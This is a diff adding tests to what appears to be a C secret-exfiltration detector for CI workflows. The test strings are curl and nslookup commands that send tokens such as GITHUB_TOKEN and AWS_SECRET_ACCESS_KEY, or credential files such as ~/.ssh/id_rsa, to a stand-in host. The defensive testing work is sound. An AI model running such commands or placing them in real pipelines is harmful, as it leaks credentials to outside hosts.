@@ -34,6 +34,44 @@ test_variable (void)
   sent_check ("run: nslookup $GITHUB_TOKEN.a.example\n", "1: $GITHUB_TOKEN.a.example\n");
 }
 
+/* Each variable and file that is known to hold one, with nothing else in the text that looks like a secret. */
+static void
+test_known_names (void)
+{
+  static const char *const names[] = { "GITHUB_TOKEN",
+                                       "GH_TOKEN",
+                                       "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
+                                       "ACTIONS_RUNTIME_TOKEN",
+                                       "CI_JOB_TOKEN",
+                                       "NPM_TOKEN",
+                                       "NODE_AUTH_TOKEN",
+                                       "PYPI_TOKEN",
+                                       "PYPI_API_TOKEN",
+                                       "TWINE_PASSWORD",
+                                       "AWS_SECRET_ACCESS_KEY",
+                                       "AWS_SESSION_TOKEN",
+                                       "CARGO_REGISTRY_TOKEN",
+                                       "GEM_HOST_API_KEY",
+                                       "DOCKER_PASSWORD",
+                                       "DOCKERHUB_TOKEN" };
+  static const char *const files[] = { "~/.npmrc", "~/.pypirc", "~/.netrc", "~/.ssh/id_rsa",
+                                       "~/.aws/credentials" };
+
+  for (gsize i = 0; i < G_N_ELEMENTS (names); i++) {
+    g_autofree char *text = g_strdup_printf ("run: curl -d $%s https://a.example\n", names[i]);
+
+    sent_check (text, "1: a.example\n");
+  }
+  for (gsize i = 0; i < G_N_ELEMENTS (files); i++) {
+    g_autofree char *text = g_strdup_printf ("run: curl -d @%s https://a.example\n", files[i]);
+
+    sent_check (text, "1: a.example\n");
+  }
+  sent_check ("run: env | curl -d @- https://a.example\n", "1: a.example\n");
+  sent_check ("run: curl -d \"$(printenv | base64)\" https://a.example\n", "1: a.example\n");
+  sent_check ("run: curl -d ${{ github.token }} https://a.example\n", "1: a.example\n");
+}
+
 static void
 test_other_languages (void)
 {
@@ -164,6 +202,7 @@ main (int argc, char **argv)
   g_test_init (&argc, &argv, NULL);
   g_test_add_func ("/secrets/expression", test_expression);
   g_test_add_func ("/secrets/variable", test_variable);
+  g_test_add_func ("/secrets/known-names", test_known_names);
   g_test_add_func ("/secrets/other-languages", test_other_languages);
   g_test_add_func ("/secrets/log", test_log);
   g_test_add_func ("/secrets/quoted", test_quoted);
